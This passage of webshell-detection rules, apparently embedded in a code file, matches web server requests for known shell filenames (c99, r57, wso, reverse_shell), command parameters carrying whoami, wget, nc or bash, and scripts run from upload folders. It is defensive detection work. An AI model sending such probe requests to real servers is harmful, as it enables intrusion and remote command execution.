    cs-uri-stem|re: '(?i)/(c99|c100|r57|wso\d*|b374k|alfa(-?rex|shell)?|indoxploit|mini_?shell|phpspy|locus7s?|weevely|china\s?chopper|antichat|webshell|web_?shell|php-?shell|phpshell|shell\d*|cmd\d*|cmdasp|jspspy|aspxspy|aspydrv|jsp-?shell|up(load)?er?_?shell|0x\d*|r00t|backdoor|hax(or)?|sadcrew|marijuana|leaf_?mailer|leafphp|anonymousfox|fox|wp-(cont|22|2019|conflg|blockup|sigunq|xmlrpc)|goods|radio|chosen|gel4y|simple-?backdoor|qq|xx|ss|x|1|z|alf[a4]|an0n\w*|tunnel|regeorg|revshell|reverse_?shell|mailer)\.(php\d?|phtml|asp|aspx|jspx?|cgi|pl|ashx)$'
  condition: selection
level: high
tags:
  - attack.persistence
  - attack.t1505.003
  - millrace.webshell
millrace:
  examples:
    match:
      - '/c99.php'
      - '/uploads/wso2.php'
      - '/images/shell.aspx'
      - '/wp-content/r57.php'
      - '/cmd.jsp'
    clean:
      - '/seashell.php'
      - '/shells-and-sand/'
      - '/command.php'
      - '/index.php'
---
title: Command passed to a script by name
id: 8edfd45e-abb0-584b-8999-4fc95effcb01
status: stable
description: A parameter named like a command holds the name of one.
logsource:
  category: webserver
detection:
  selection:
    cs-uri-query|re: '(?i)(^|[?&])(cmd|exec|command|execute|c|x|run|shell|do|system|passthru)=(id|whoami|uname|ls|dir|pwd|cat|type|ping|net|wget|curl|echo|ipconfig|ifconfig|systeminfo|powershell|bash|sh|nc|python|perl|phpinfo|ver|set|tasklist)([+ ;|&%(]|$)'
  fine:
    cs-uri-query|re: '(?i)(^|[?&])(do|c|x|run)=(echo|set|net|type|ping|cat|sh|nc|dir|ver)(&|$)'
  condition: selection and not fine
level: high
tags:
  - attack.persistence
  - attack.t1505.003
  - millrace.webshell
millrace:
  examples:
    match:
      - '/uploads/a.php?cmd=whoami'
      - '/x.jsp?cmd=cat+/etc/hostname'
      - '/a.php?exec=ls%20-la'
    clean:
      - '/api?command=list'
      - '/shop?c=cat&p=2'
      - '/run?cmd=start'
---
title: Script run from a folder for uploads
id: 992b2801-5276-5473-a0e9-067b887d275d
status: stable
description: Folders that visitors can write to hold no scripts.
logsource:
  category: webserver
detection:
  selection:
    cs-uri-stem|re: '(?i)/(uploads?|images?|img|tmp|temp|cache|userfiles|avatars?|attachments?|pictures|photos|wp-content/uploads)/([^?]*/)?[^/?]+\.(php\d?|phtml|phar|aspx?|ashx|jspx?|cgi|pl)$'
  fine:
    cs-uri-stem|contains:
      - '/index.php'
      - 'timthumb'
      - 'thumb.php'
      - 'image.php'
      - 'download'
      - 'upload.php'
      - '/files/index'
      - 'resize'
      - 'captcha'
      - 'show'
      - 'view'
      - 'gallery'
  condition: selection and not fine
level: medium
tags:
  - attack.persistence
  - attack.t1505.003
  - millrace.webshell
millrace:
  examples:
    match:
      - '/wp-content/uploads/2016/03/zx.php'
      - '/images/.cache/a.jsp'
      - '/uploads/x.phtml'
    clean:
      - '/images/logo.png'
      - '/upload/index.php'
      - '/media/thumb.php'
      - '/images/captcha.php'

"""#),
  ]
}
